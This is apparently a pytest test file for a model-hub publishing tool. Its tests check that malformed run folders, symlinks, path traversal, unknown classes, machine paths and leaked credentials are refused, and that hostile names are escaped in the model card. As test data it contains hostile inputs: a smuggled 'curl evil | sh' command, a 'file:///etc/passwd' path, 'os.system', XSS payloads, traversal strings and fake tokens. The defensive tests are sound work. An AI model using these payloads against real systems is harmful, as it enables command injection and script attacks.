"""A run's folder that is malformed, or made to publish what is not the publisher's to give."""

import json
import os

import html5lib
import pytest
from markdown_it import MarkdownIt
from safetensors.torch import save_file

from boolbert import hub_upload
from boolbert.core.errors import BoolBertError, HubError
from boolbert.hub.assemble import assemble
from boolbert.hub.card import card_data, card_text, data_name
from boolbert.hub.refuse import refusals, text_refusals


@pytest.fixture
def prepare(run_dir, tmp_path, monkeypatch):
    """A function that assembles, writes the card and searches the folder, without the fresh process."""
    monkeypatch.setattr(hub_upload, "check", lambda run, folder: {})

    def act():
        folder = tmp_path / "published"
        folder.mkdir()
        hub_upload.prepare(run_dir, "org/name", folder)
        return folder

    return act


def write(file, content):
    """None: it is not there."""
    if content is None:
        file.unlink()
    else:
        file.write_bytes(content if isinstance(content, bytes) else json.dumps(content).encode())


SETTINGS = "config_sentence_transformers.json"
DEEP = b"[" * 100_000 + b"]" * 100_000
MALFORMED = {
    "modules.json, an object": ("modules.json", {}, "modules.json: must be a list of objects"),
    "modules.json, no objects": ("modules.json", ["x"], "modules.json: must be a list of objects"),
    "modules.json, no type": ("modules.json", [{"path": ""}], "modules.json: a module's type must be a class"),
    "modules.json, deeply nested": ("modules.json", DEEP, "modules.json: not valid JSON: nested too deeply"),
    "modules.json, missing": ("modules.json", None, "modules.json is missing"),
    "router, cut short": ("router_config.json", b"{", "router_config.json: not valid JSON"),
    "router, a list": ("router_config.json", [], "router_config.json: expected a JSON object, got []"),
    "router, no types": ("router_config.json", {}, "router_config.json: field 'types' must be an object"),
    "router, types a list": ("router_config.json", {"types": ["."]}, "router_config.json: field 'types' must be"),
    "router, type a number": ("router_config.json", {"types": {".": 3}}, "a module's type must be a class"),
    "config, a list": ("config.json", [1], "config.json: expected a JSON object, got [1]"),
    "config, no size": ("config.json", {"model_type": "boolbert"}, "config.json: field 'hidden_size' must be"),
    "config, not UTF-8": ("config.json", b'{"a": "\xff"}', "config.json: not valid JSON"),
    "settings, a text": (SETTINGS, "x", "expected a JSON object, got 'x'"),
    "requirements, a list": (SETTINGS, {"requirements": ["x"]}, "must be an object of"),
    "requirements, a command": (SETTINGS, {"requirements": {"torch": '"; curl evil | sh'}}, "no package"),
    "requirements, an address": (SETTINGS, {"requirements": {"torch": " @ https://a.b/c.whl"}}, "names and versions"),
    "metrics, a list": ("metrics.json", [], "metrics.json: expected a JSON object"),
    "metrics, cut short": ("metrics.json", b'{"dev": {', "metrics.json: not valid JSON"),
    "metrics, not a number": ("metrics.json", b'{"dev": {"mrr@10": NaN}}', "'mrr@10' is nan: the run diverged"),
    "metrics, too large": ("metrics.json", b'{"mrr": 1' + b"0" * 400 + b"}", "'mrr' is 1000"),
    "arguments, a list": ("args.json", [], "args.json: expected a JSON object"),
    "tokenizer, missing": ("document_encoder/tokenizer.json", None, "document_encoder: tokenizer.json is missing"),
    "module, a pickle": ("1_Pooling/weights.pt", b"\x80\x02", "only .json and .safetensors"),
    "weights, missing": ("model.safetensors", None, "model.safetensors is missing"),
    "weights, pickled beside": ("document_encoder/pytorch_model.bin", b"\x80\x02", "pickled weights are not published"),
    "weights, cut short": ("model.safetensors", b"\x10\x00\x00", "model.safetensors: is not a whole safetensors file"),
    "weights, a pickle": ("model.safetensors", b"\x80\x04\x95....", "model.safetensors: is pickled"),
}


@pytest.mark.parametrize(("name", "content", "message"), MALFORMED.values(), ids=MALFORMED)
def test_a_malformed_file_is_named_in_one_line(run_dir, prepare, name, content, message):
    write(run_dir / name, content)
    with pytest.raises(BoolBertError) as error:
        prepare()
    assert message in str(error.value)
    assert "\n" not in str(error.value)


@pytest.mark.parametrize("content", [{"start": []}, {"start": {"encoder": 3}}, {"arguments": []}, {"start": None}])
def test_an_odd_record_is_no_reason_not_to_publish(run_dir, prepare, content):
    write(run_dir / "args.json", content)
    assert (prepare() / "README.md").exists()


def test_a_run_that_is_not_finished(run_dir, prepare):
    """Old weights under new flags."""
    write(run_dir / "args.json", {"script": "quest", "arguments": {"seed": 1}})
    with pytest.raises(HubError, match="run: is not finished"):
        prepare()


FILES = ["tokenizer.json", "document_encoder/model.safetensors", "1_Pooling/config.json"]


@pytest.mark.parametrize("name", [*FILES, "document_encoder", "1_Pooling"])
def test_a_link_is_refused(run_dir, tmp_path, prepare, name):
    (run_dir / name).rename(tmp_path / "elsewhere")
    (run_dir / name).symlink_to(tmp_path / "elsewhere")
    with pytest.raises(HubError, match=f"run/{name}: is a link; publish the file itself"):
        prepare()
    assert not (tmp_path / "published" / name).exists()


def test_the_run_itself_may_be_reached_through_a_link(run_dir, tmp_path):
    (tmp_path / "latest").symlink_to(run_dir)
    (tmp_path / "new").mkdir()
    assemble(tmp_path / "latest", tmp_path / "new")
    assert (tmp_path / "new" / "model.safetensors").read_bytes() == (run_dir / "model.safetensors").read_bytes()


def test_links_in_the_assembled_folder_are_refused(tmp_path):
    folder = tmp_path / "folder"
    (folder / "deep").mkdir(parents=True)
    (tmp_path / "credentials").write_text("secret")
    (folder / "deep/link.json").symlink_to(tmp_path / "credentials")
    (folder / "linked").symlink_to(tmp_path)
    (folder / "broken").symlink_to(tmp_path / "nowhere")
    os.mkfifo(folder / "pipe")
    expected = [f"{name}: is a link; publish the file itself" for name in ("broken", "deep/link.json", "linked")]
    assert refusals(folder) == [*expected, "pipe: is not a file"]


@pytest.mark.parametrize(
    "name", ["../outside", "/outside", "a/../../outside", "..", "a\\..\\b", "", "~", "a//b", "a\n"]
)
@pytest.mark.parametrize("where", ["router_config.json", "modules.json"])
def test_no_folder_outside_the_run_is_read_or_written(run_dir, tmp_path, prepare, name, where):
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside/config.json").write_text("{}")
    kind = "sentence_transformers.models.Pooling"
    if where == "router_config.json":
        content = {"types": {".": kind, name: kind}}
    else:
        content = [{"path": name or None, "type": kind}]
    write(run_dir / where, content)
    before = sorted(path for path in tmp_path.rglob("*") if "published" not in path.parts)
    with pytest.raises(HubError, match="a module's folder must lie in the run"):
        prepare()
    assert sorted(path for path in tmp_path.rglob("*") if "published" not in path.parts) == before


@pytest.mark.parametrize("kind", ["os.system", "sentence_transformers", "evil.sentence_transformers.X", "a b"])
def test_only_known_classes_may_be_loaded(run_dir, prepare, kind):
    write(run_dir / "modules.json", [{"path": "", "type": kind}])
    with pytest.raises(HubError, match="a module's type must be a class of sentence_transformers"):
        prepare()


MACHINE_PATHS = [
    *("/nfs/someone", "/gpfs/project/x", "/content/drive", "/kaggle/input", "/Volumes/Disk/x", "~/runs/1"),
    *("~someone/x", "file:///etc/passwd", "file://server/x", "dbfs:/mnt/x", "/home/someone", "/lustre/a", "/fsx/a/b"),
    *("C:\\Users\\x", "C:/Users/x", "\\\\server\\share", "/mnt/a.b", "/work/x"),
]


@pytest.mark.parametrize("path", MACHINE_PATHS)
def test_paths_of_a_machine(path, tmp_path):
    assert text_refusals(json.dumps({"data": path}))
    assert text_refusals(f"trained on {path} by") or path.startswith("\\\\")
    escaped = "".join(f"\\u{ord(letter):04x}" for letter in path)
    (tmp_path / "config.json").write_text(f'{{"data": "{escaped}"}}')
    (found,) = refusals(tmp_path)
    assert found.startswith("config.json, line 1: holds the path of a machine")


@pytest.mark.parametrize(
    "text",
    [
        *("https://hf.co/org/name", "and/or", "AND/OR/NOT", "./runs/x", "runs/quest/best", "a / b / c", "1/2/3"),
        *("</b>", "~0.5", "~x", "profile: a", "s/m/g", "org/name", "http://localhost:8080/home/x", "\\w+\\d"),
    ],
)
def test_what_is_no_path_of_a_machine(text):
    assert text_refusals(text) == []


def test_a_token_in_a_name_or_hidden_by_escapes(tmp_path):
    token = "hf_" + "a" * 34
    (tmp_path / f"{token}.json").write_text("{}")
    (tmp_path / "x.json").write_text('{"a": "\\u0068' + token[1:] + '"}')
    save_file({}, tmp_path / "x.safetensors", metadata={"note": token})
    save_file({}, tmp_path / "y.safetensors", metadata={token: "a note"})
    found = refusals(tmp_path, secrets=[])
    assert sorted(found) == [
        "the name of a file holds what looks like a token or key",
        "x.json, line 1: holds what looks like a token or key (Hugging Face)",
        "x.safetensors, line 1: holds what looks like a token or key (Hugging Face)",
        "y.safetensors, line 1: holds what looks like a token or key (Hugging Face)",
    ]


# In two halves, so that no scanner takes this file's own lines for secrets.
SECRETS = {
    "AWS": [{"id": "AKIA" + "QWERTYUIOPASDFGH"}, {"aws_secret_access_key": "abcd/EFGH+" * 4}],
    "Slack": [{"bot": "xoxb" + "-123456789012-abcdefghijkl"}, {"url": "https://hooks.slack" + ".com/services/T0/B0/x"}],
    "Stripe": [{"pay": "sk_live" + "_" + "a1" * 12}],
    "npm": [{"registry": "npm" + "_" + "a1B2" * 9}],
    "Weights & Biases": [{"wandb_api_key": "0123456789" * 4}],
    "Azure": [{"store": "AccountName=x;AccountKey=" + "a1+/" * 21 + "=="}, {"app": "abc8Q" + "~" + "a1" * 17}],
    "Telegram": [{"bot": "123456789" + ":" + "AAabcde" * 5}],
    "JSON Web Token": [{"session": "eyJhbGciOiJIUzI1NiJ9" + ".eyJzdWIiOiIxMjM0In0.abcdefghijk"}],
    "password in an address": [{"tracker": "postgres://me" + ":hunter2@db.example/runs"}],
    "password by its name": [{"db_password": "correct-horse-7"}],
}


@pytest.mark.parametrize("whose", SECRETS)
def test_secrets_of_every_kind_are_refused_wherever_they_stand(whose, tmp_path):
    line = f"line 1: holds what looks like a token or key ({whose})"
    for content in SECRETS[whose]:
        write(tmp_path / "config.json", content)
        save_file({}, tmp_path / "x.safetensors", metadata=content)
        assert refusals(tmp_path) == [f"config.json, {line}", f"x.safetensors, {line}"]


def test_what_only_resembles_a_secret_is_published(tmp_path):
    content = {"pad_token": "[PAD]", "commit": "0123456789" * 4, "data": "https://hf.co/datasets/org/name?x=1:2@3"}
    write(tmp_path / "config.json", {**content, "vocab": {"password": 20786, "api": 17928, ":": 1024, "@": 1030}})
    assert refusals(tmp_path) == []


HOSTILE_NAMES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "a\n\n# Heading\n<b>bold</b>",
    "`<b>` and ``<i>``",
    "|a|b|",
    "&lt;b&gt;",
    "*a* __b__ ~~c~~",
    "--- \n- list",
    "\x1b[31mred\u202e",
]


def test_hostile_names_in_the_card(run_dir):
    """Rendered as Markdown and parsed as HTML, names from files are their letters, and no other element."""
    sections = {f"{name} dev": dict.fromkeys(HOSTILE_NAMES, 0.5) for name in HOSTILE_NAMES}
    write(run_dir / "metrics.json", {"arguments": {"data": f"/home/someone/{HOSTILE_NAMES[1]}"}, **sections})
    assert data_name(run_dir) == HOSTILE_NAMES[1]
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(card_text(run_dir, "org/name"))
    document = html5lib.parse(rendered, namespaceHTMLElements=False)
    assert not {element.tag for element in document.iter()} & {"img", "b", "i", "script"}
    (table,) = document.iter("table")
    assert {element.tag for element in table.iter()} == {"table", "thead", "tbody", "tr", "th", "td", "code"}
    shown = [" ".join(name.split()).replace("\x1b", "\\x1b").replace("\u202e", "\\u202e") for name in HOSTILE_NAMES]
    assert ["".join(head.itertext()) for head in table.iter("th")] == ["", *shown]
    assert HOSTILE_NAMES[1] in "".join(document.itertext())
    assert card_data(run_dir, "org/name").to_yaml()


def test_a_folder_that_is_gone_is_not_published_as_a_data_set_of_the_hub(run_dir):
    write(run_dir / "args.json", {"arguments": {"data": "quest/films"}})
    assert data_name(run_dir) == "films"
    assert card_data(run_dir, "org/name").datasets is None
    write(run_dir / "args.json", {"arguments": {"data": "quest/films"}, "data_source": "hub"})
    assert data_name(run_dir) == "quest/films"
    assert card_data(run_dir, "org/name").datasets == ["quest/films"]
    write(run_dir / "args.json", {"arguments": {"data": "../films"}, "data_source": "hub"})
    assert card_data(run_dir, "org/name").datasets is None
